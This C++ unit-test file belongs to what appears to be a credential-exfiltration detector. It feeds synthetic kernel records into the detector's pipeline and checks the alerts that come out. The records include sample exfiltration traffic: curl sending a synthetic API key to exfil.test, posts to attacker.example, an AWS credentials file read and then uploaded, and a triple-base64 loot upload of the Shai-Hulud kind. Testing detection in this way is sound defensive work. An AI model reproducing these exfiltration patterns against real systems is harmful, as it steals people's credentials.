// The pipeline fed with records laid out exactly as the kernel writes them: no kernel needed.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <sys/socket.h>

#include <cstring>
#include <set>
#include <string>
#include <vector>

#include "credsentry_abi.h"
#include "pipeline/pipeline.h"
#include "pipeline/pipeline_counters.h"
#include "pipeline_fixture.h"
#include "../match/synthetic_keys.h"
#include "../stream/decoders/compress_support.h"
#include "../stream/decoders/client_hello_builder.h"
#include "report/alert_json.h"
#include "report/alert_names.h"

namespace credsentry::pipeline {
namespace {

using fixture::CaptureSink;
using fixture::Header;
using fixture::OpenAiKey;
using fixture::RandomToken;
using fixture::Record;

class PipelineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto rules = catalogue::LoadRules({CREDSENTRY_SOURCE_RULES_DIR});
    ASSERT_TRUE(rules.ok()) << rules.message();
    auto db = match::MatcherDatabase::Compile(std::move(*rules));
    ASSERT_TRUE(db.ok()) << db.message();
    db_ = *db;
    auto scope = state::Scope::Create({}, "/nonexistent-proc");
    ASSERT_TRUE(scope.ok());
    scope_ = std::make_unique<state::Scope>(*scope);
    PipelineOptions o;
    o.hostname = "test-host";
    pipeline_ = std::make_unique<Pipeline>(o, *scope_, db_, fp_, std::vector<report::AlertSink*>{&sink_},
                                           nullptr);
  }

  void Exec(uint32_t pid, uint32_t ppid, const char* comm, std::string_view args) {
    cs_exec_event e{};
    e.hdr = Header(CS_EV_EXEC, pid, ++ts_, comm);
    e.ppid = ppid;
    std::strcpy(e.filename, (std::string("/usr/bin/") + comm).c_str());
    e.filename_len = std::strlen(e.filename);
    std::memcpy(e.args, args.data(), std::min<size_t>(args.size(), CS_ARGS_MAX));
    e.args_len = std::min<size_t>(args.size(), CS_ARGS_MAX);
    pipeline_->Handle(Record(e));
  }

  void Connect(uint32_t pid, int fd, const char* ip, uint16_t port, const char* comm = "curl") {
    cs_connect_event e{};
    e.hdr = Header(CS_EV_CONNECT, pid, ++ts_, comm);
    e.fd = fd;
    e.family = AF_INET;
    e.port = port;
    e.sock_type = SOCK_STREAM;
    inet_pton(AF_INET, ip, e.addr);
    pipeline_->Handle(Record(e));
  }

  void Sni(uint32_t pid, uint64_t ssl, const char* name, const char* comm = "curl") {
    cs_tls_sni_event e{};
    e.hdr = Header(CS_EV_TLS_SNI, pid, ++ts_, comm);
    e.ssl = ssl;
    std::strcpy(e.name, name);
    e.name_len = std::strlen(name);
    pipeline_->Handle(Record(e));
  }

  void Data(uint16_t type, uint32_t pid, int fd, uint64_t ssl, std::string_view bytes,
            const char* comm = "curl", uint8_t fd_kind = CS_FD_SOCK_TCP) {
    cs_data_event e{};
    e.hdr = Header(type, pid, ++ts_, comm);
    e.fd = fd;
    e.ssl = ssl;
    e.fd_kind = fd_kind;
    e.sock_state = type == CS_EV_SOCK_DATA ? CS_SOCK_PLAIN : 0;
    e.len = bytes.size();
    e.total_len = bytes.size();
    e.chunk_flags = CS_CHUNK_LAST;
    pipeline_->Handle(Record(e, bytes));
  }

  void Close(uint32_t pid, int fd) {
    cs_close_event e{};
    e.hdr = Header(CS_EV_CLOSE, pid, ++ts_, "curl");
    e.fd = fd;
    pipeline_->Handle(Record(e));
  }

  bool AnyLineContains(const std::string& needle) const {
    for (const auto& l : sink_.lines) {
      if (l.find(needle) != std::string::npos) return true;
    }
    return false;
  }

  uint64_t ts_ = 1000;
  report::Fingerprinter fp_{"unit-test-key"};
  std::shared_ptr<const match::MatcherDatabase> db_;
  std::unique_ptr<state::Scope> scope_;
  CaptureSink sink_;
  std::unique_ptr<Pipeline> pipeline_;
};

TEST_F(PipelineTest, TlsKeyToUnexpectedSniAlertsOnceWithoutTheKey) {
  const std::string key = OpenAiKey();
  using namespace std::string_literals;  // the literals hold NULs: argv is NUL-separated
  const std::string args = "curl\0-H\0Authorization: Bearer "s + key + "\0https://exfil.test/"s;
  Exec(100, 1, "curl", args);
  Connect(100, 5, "127.0.0.1", 8443);
  Sni(100, 0xabc, "exfil.test");
  const std::string req = "POST / HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + key + "\r\n\r\n";
  Data(CS_EV_TLS_DATA, 100, 5, 0xabc, req);
  Data(CS_EV_TLS_DATA, 100, 5, 0xabc, req);  // a retry: still one alert
  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.secret.provider, "openai");
  EXPECT_EQ(a.secret.type, "openai-project-key");
  EXPECT_EQ(a.destination.host, "exfil.test");
  EXPECT_EQ(report::NameSourceName(a.destination.name_source), "sni");
  EXPECT_EQ(a.destination.ip, "127.0.0.1");
  EXPECT_EQ(a.destination.port, 8443);
  EXPECT_EQ(a.process.comm, "curl");
  EXPECT_EQ(report::FoundInName(a.secret.found_in), "tls-write");
  EXPECT_TRUE(a.secret.redacted.starts_with("sk-proj-"));
  EXPECT_NE(a.process.cmdline.find("Bearer sk-proj-"), std::string::npos);
  EXPECT_FALSE(AnyLineContains(key)) << "raw key in alert JSON";
  EXPECT_FALSE(AnyLineContains(key.substr(20, 40))) << "key fragment in alert JSON";
  // The retry, and the decoded header unit of each request, match again: counted, not alerted.
  EXPECT_GE(pipeline_->Counters()["alerts_suppressed_duplicate"], 1u);
}

// node's OpenSSL writes through a memory BIO: its SSL object never names a socket. The socket
// whose ClientHello carried the same name gives the alert its address and port.
TEST_F(PipelineTest, MemoryBioTlsObjectGetsTheAddressOfTheSocketItsClientHelloNamed) {
  const std::string key = OpenAiKey();
  Exec(110, 1, "node", "node\0fetch.js");
  Connect(110, 21, "127.0.0.1", 9443, "node");  // another connection, another name
  Data(CS_EV_SOCK_DATA, 110, 21, 0,
       stream::decoders::testing::BuildClientHello("cdn.example", {"http/1.1"}), "node");
  Connect(110, 22, "127.0.0.7", 8443, "node");
  Data(CS_EV_SOCK_DATA, 110, 22, 0,
       stream::decoders::testing::BuildClientHello("exfil.test", {"http/1.1"}), "node");
  Sni(110, 0xb10, "exfil.test", "node");
  Data(CS_EV_TLS_DATA, 110, -1, 0xb10,
       "POST /v1 HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + key + "\r\n\r\n",
       "node");
  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.destination.host, "exfil.test");
  EXPECT_EQ(report::NameSourceName(a.destination.name_source), "sni");
  EXPECT_EQ(a.destination.ip, "127.0.0.7");
  EXPECT_EQ(a.destination.port, 8443);

  // Once that socket is closed the name no longer points anywhere: host only, no stale port.
  Close(110, 22);
  Sni(110, 0xb11, "exfil.test", "node");
  Data(CS_EV_TLS_DATA, 110, -1, 0xb11,
       "POST /v2 HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + OpenAiKey() +
           "\r\n\r\n",
       "node");
  ASSERT_EQ(sink_.alerts.size(), 2u);
  EXPECT_EQ(sink_.alerts[1].destination.host, "exfil.test");
  EXPECT_EQ(sink_.alerts[1].destination.port, 0);
  EXPECT_FALSE(AnyLineContains(key));
}

TEST_F(PipelineTest, ExpectedDestinationIsQuiet) {
  Connect(101, 5, "127.0.0.1", 443);
  Sni(101, 0xdef, "api.openai.com");
  Data(CS_EV_TLS_DATA, 101, 5, 0xdef, "Authorization: Bearer " + OpenAiKey() + "\r\n");
  EXPECT_TRUE(sink_.alerts.empty());
  EXPECT_EQ(pipeline_->Counters()["secrets_to_expected_destinations"], 1u);
}

TEST_F(PipelineTest, KeySplitAcrossTwoWritesAlerts) {
  Connect(102, 7, "127.0.0.1", 443, "python3");
  size_t expected = 0;
  for (size_t split : {size_t{12}, size_t{60}, size_t{150}}) {
    const std::string body = "{\"key\": \"" + OpenAiKey() + "\"}";
    const uint64_t ssl = 0x7700 + split;  // a new TLS connection per split point
    Sni(102, ssl, "attacker.example", "python3");
    Data(CS_EV_TLS_DATA, 102, 7, ssl, body.substr(0, split), "python3");
    EXPECT_EQ(sink_.alerts.size(), expected) << "alert before the key was complete";
    Data(CS_EV_TLS_DATA, 102, 7, ssl, body.substr(split), "python3");
    EXPECT_EQ(sink_.alerts.size(), ++expected) << "split at " << split;
  }
}

TEST_F(PipelineTest, PlainHttpToAnIpAlertsWithTheIp) {
  Connect(103, 4, "127.0.0.1", 8080);
  Data(CS_EV_SOCK_DATA, 103, 4, 0, "POST /x HTTP/1.1\r\n\r\nkey=" + OpenAiKey() + "&x=1");
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
  EXPECT_EQ(sink_.alerts[0].destination.host, "");
  EXPECT_EQ(report::NameSourceName(sink_.alerts[0].destination.name_source), "ip");
  EXPECT_EQ(report::FoundInName(sink_.alerts[0].secret.found_in), "socket-write");
}

TEST_F(PipelineTest, KeyAtEndOfStreamFlushesOnClose) {
  Connect(104, 4, "127.0.0.1", 8080);
  Data(CS_EV_SOCK_DATA, 104, 4, 0, "token=" + OpenAiKey());
  Close(104, 4);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
}

TEST_F(PipelineTest, KeyEndingABodyAlertsOnceWithItsDestination) {
  // The body unit ends at Content-Length (match with the connection known); the raw stream's
  // end-of-stream match comes when the process exits, after the socket is gone.
  const std::string body = "k=" + OpenAiKey();
  Connect(106, 4, "127.0.0.1", 8080, "wget");
  Sni(106, 0x66, "exfil.test", "wget");
  Data(CS_EV_TLS_DATA, 106, 4, 0x66,
       "POST / HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: " + std::to_string(body.size()) +
           "\r\n\r\n" + body,
       "wget");
  Close(106, 4);
  cs_exit_event x{};
  x.hdr = Header(CS_EV_EXIT, 106, ++ts_, "wget");
  pipeline_->Handle(Record(x));
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].destination.host, "exfil.test");
  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
}

TEST_F(PipelineTest, CredentialFileReadIsEvidence) {
  const std::string id = "AKIA" + std::string("ABCDEFGHIJKLMNOP");
  cs_cred_open_event o{};
  o.hdr = Header(CS_EV_CRED_OPEN, 105, ++ts_, "curl");
  o.fd = 3;
  std::strcpy(o.path, "/home/u/.aws/credentials");
  o.path_len = std::strlen(o.path);
  pipeline_->Handle(Record(o));
  const std::string file = "[default]\naws_access_key_id = " + id + "\n";
  Data(CS_EV_CRED_READ, 105, 3, 0, file, "curl", CS_FD_CRED_FILE);
  Connect(105, 6, "127.0.0.1", 443);
  Sni(105, 0x55, "exfil.test");
  Data(CS_EV_TLS_DATA, 105, 6, 0x55, "PUT /c HTTP/1.1\r\n\r\n" + file);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.kind, "credential-file-egress");
  ASSERT_FALSE(a.evidence.credential_reads.empty());
  EXPECT_EQ(a.evidence.credential_reads[0].path, "/home/u/.aws/credentials");
  EXPECT_NE(a.summary.find(".aws/credentials"), std::string::npos);
  EXPECT_FALSE(AnyLineContains(id));
}

TEST_F(PipelineTest, GarbageRecordsAreCountedNotFatal) {
  std::vector<uint8_t> junk(7, 0xff);
  pipeline_->Handle(junk);
  cs_data_event e{};
  e.hdr = Header(CS_EV_TLS_DATA, 1, 1, "x");
  e.len = 60000;
  pipeline_->Handle(Record(e));
  EXPECT_EQ(pipeline_->Counters()["records_undecodable"], 2u);
}

// The reader can hand a TLS write over before the records that name its connection (a late
// reader walking a backlog): the verdict waits for them instead of judging against nothing.
TEST_F(PipelineTest, TlsWriteAheadOfItsConnectAndSniIsJudgedOnceTheyArrive) {
  const std::string key = OpenAiKey();
  Exec(120, 1, "curl", "curl");
  Data(CS_EV_TLS_DATA, 120, 5, 0x120,
       "POST / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + key + "\r\n\r\n");
  Connect(120, 5, "127.0.0.1", 443);  // an address alone does not settle a TLS destination
  EXPECT_TRUE(sink_.alerts.empty());
  Sni(120, 0x120, "api.openai.com");
  pipeline_->Tick(ts_ + 10'000'000'000ull);
  EXPECT_TRUE(sink_.alerts.empty()) << sink_.lines[0];
  auto c = pipeline_->Counters();
  // The raw stream and the decoded header both match: every match waited, none was lost.
  EXPECT_GE(c["secrets_held_for_destination"], 1u);
  EXPECT_EQ(c["secrets_held_then_resolved"], c["secrets_held_for_destination"]);
  EXPECT_EQ(c["secrets_to_expected_destinations"], c["secrets_held_for_destination"]);
  EXPECT_EQ(c["secrets_held"], 0u);
}

TEST_F(PipelineTest, HeldExfiltrationAlertsWithItsSniOnceItArrives) {
  const std::string key = OpenAiKey();
  Exec(121, 1, "curl", "curl");
  Data(CS_EV_TLS_DATA, 121, 5, 0x121, "GET / HTTP/1.1\r\nAuthorization: Bearer " + key + "\r\n\r\n");
  Connect(121, 5, "127.0.0.1", 8443);
  Sni(121, 0x121, "exfil.test");
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].kind, "secret-egress");
  EXPECT_EQ(sink_.alerts[0].destination.host, "exfil.test");
  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
}

// A TLS write never tied to a socket: after the hold, a lower-severity finding that says the
// destination is unknown and why, never "not an expected destination".
TEST_F(PipelineTest, TlsWriteNeverTiedToASocketIsAnUnknownDestinationFinding) {
  const std::string key = OpenAiKey();
  Exec(122, 1, "curl", "curl");
  Data(CS_EV_TLS_DATA, 122, -1, 0x122, "GET / HTTP/1.1\r\nAuthorization: Bearer " + key + "\r\n\r\n");
  pipeline_->Tick(ts_ + 100'000'000);  // within the hold: nothing yet
  EXPECT_TRUE(sink_.alerts.empty());
  pipeline_->Tick(ts_ + 600'000'000);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.kind, "secret-egress-destination-unknown");
  EXPECT_LT(static_cast<int>(a.severity), static_cast<int>(alert::Severity::kCritical));
  EXPECT_NE(a.summary.find("could not determine"), std::string::npos) << a.summary;
  EXPECT_NE(a.summary.find("could not be tied to a socket"), std::string::npos) << a.summary;
  EXPECT_EQ(a.summary.find("not an expected destination"), std::string::npos) << a.summary;
  EXPECT_TRUE(a.destination.host.empty());
  EXPECT_FALSE(AnyLineContains(key));
  EXPECT_EQ(pipeline_->Counters()["verdicts_destination_unknown"], 1u);
}

TEST_F(PipelineTest, DrainJudgesWhatIsStillHeld) {
  const std::string key = OpenAiKey();
  Exec(123, 1, "curl", "curl");
  Data(CS_EV_TLS_DATA, 123, -1, 0x123, "GET / HTTP/1.1\r\nAuthorization: Bearer " + key + "\r\n\r\n");
  EXPECT_TRUE(sink_.alerts.empty());
  pipeline_->Drain();
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].kind, "secret-egress-destination-unknown");
}


#define CREDSENTRY_TEST_NAME_(name, doc) #name,
const std::vector<std::string> kPipelineCounterNames = {
    CREDSENTRY_PIPELINE_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kEgressStreamCounterNames = {
    CREDSENTRY_EGRESS_STREAM_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kCredentialLearnerCounterNames = {
    CREDSENTRY_CREDENTIAL_LEARNER_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kMatchCounterNames = {
    CREDSENTRY_MATCH_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kDecoderCounterNames = {
    CREDSENTRY_DECODER_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kDnsAnswerCounterNames = {
    CREDSENTRY_DNS_ANSWER_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kDnsTunnelCounterNames = {
    CREDSENTRY_DNS_TUNNEL_COUNTERS(CREDSENTRY_TEST_NAME_)};
const std::vector<std::string> kKnownValueCounterNames = {
    CREDSENTRY_KNOWN_VALUE_COUNTERS(CREDSENTRY_TEST_NAME_)};
#undef CREDSENTRY_TEST_NAME_

// Counters() is the `pipeline` object of --stats-file: every declared counter must be there.
TEST_F(PipelineTest, EveryDeclaredCounterIsExported) {
  const auto c = pipeline_->Counters();
  std::set<std::string> declared;
  auto expect = [&](const std::vector<std::string>& names, const std::string& prefix) {
    for (const auto& n : names) {
      EXPECT_TRUE(c.contains(prefix + n)) << prefix + n << " is declared but not exported";
      EXPECT_TRUE(declared.insert(prefix + n).second) << prefix + n << " is exported twice";
    }
  };
  expect(kPipelineCounterNames, "");
  expect(kEgressStreamCounterNames, "");
  expect(kCredentialLearnerCounterNames, "");
  expect(kMatchCounterNames, kMatcherPrefix);
  expect(kDecoderCounterNames, kDecoderPrefix);
  expect(kDecoderCounterNames, kDnsDecoderPrefix);
  expect(kDnsAnswerCounterNames, kDnsDecoderPrefix);
  expect(kDnsTunnelCounterNames, kDnsDecoderPrefix);
  expect(kKnownValueCounterNames, kKnownValuesPrefix);
  for (const char* name : {"matcher_hits_dropped", "matcher_scan_errors",
                           "matcher_encoded_prefix_dropped", "decoder_opaque_bytes",
                           "decoded_units_evicted", "decoder_requests", "dns_parse_errors",
                           "known_values_dropped_full", "known_values_rebuilds"}) {
    EXPECT_TRUE(c.contains(name)) << name;
  }
}

TEST_F(PipelineTest, StreamCountersJoinTheTotalsWhenTheStreamCloses) {
  Connect(200, 5, "127.0.0.1", 80);
  Data(CS_EV_SOCK_DATA, 200, 5, 0,
       "POST / HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + OpenAiKey() +
           "\r\n\r\n");
  EXPECT_GT(pipeline_->Counters()["secret_matches"], 0u);
  EXPECT_EQ(pipeline_->Counters()["decoder_requests"], 0u) << "the stream is still open";
  const uint64_t matches_open = pipeline_->Counters()["matcher_matches"];
  Close(200, 5);
  const auto c = pipeline_->Counters();
  EXPECT_GT(c.at("matcher_matches"), matches_open);
  EXPECT_EQ(c.at("decoder_requests"), 1u);
  // Every match the pipeline handled came from a matcher whose counters are now in the totals.
  EXPECT_EQ(c.at("matcher_matches"), c.at("secret_matches"));
}

// The Shai-Hulud upload: the GitHub token authenticating a contents-API call is where it belongs,
// the loot it writes is not (double base64, and the contents API's own base64 around it). Each
// key is judged by its own kind.
TEST_F(PipelineTest, KeysNestedInABodyAreJudgedApartFromTheTokenThatCarriesThem) {
  testing::KeyGenerator keys;
  const std::string github = keys.Make("github-classic-token").value;
  const auto aws_id = keys.Make("aws-access-key-id");
  const auto aws_secret = keys.Make("aws-secret-access-key");
  const std::string npm = keys.Make("npm-access-token").value;
  const std::string loot = "{\"env\":{\"AWS_ACCESS_KEY_ID\":\"" + aws_id.value +
                           "\",\"NPM_TOKEN\":\"" + npm + "\"},\"aws\":\"" + aws_secret.text +
                           "\"}";
  namespace codec = stream::decoders::testing;
  const std::string body = "{\"message\":\"add results\",\"content\":\"" +
                           codec::Base64(codec::Base64(codec::Base64(loot))) + "\"}";
  Connect(131, 6, "127.0.0.1", 443);
  Sni(131, 0x131, "api.github.com");
  Data(CS_EV_TLS_DATA, 131, 6, 0x131,
       "PUT /repos/o/r/contents/results.json HTTP/1.1\r\nHost: api.github.com\r\n"
       "Authorization: token " + github + "\r\nContent-Type: application/json\r\n"
       "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
  Close(131, 6);
  std::set<std::string> types;
  for (const auto& a : sink_.alerts) {
    types.insert(a.secret.type);
    EXPECT_EQ(a.destination.host, "api.github.com");
  }
  EXPECT_FALSE(types.count("github-classic-token"));
  EXPECT_TRUE(types.count("aws-access-key-id"));
  EXPECT_TRUE(types.count("npm-access-token"));
  for (const auto& secret : {github, aws_id.value, aws_secret.value, npm}) {
    EXPECT_FALSE(AnyLineContains(secret));
  }
}

}  // namespace
}  // namespace credsentry::pipeline
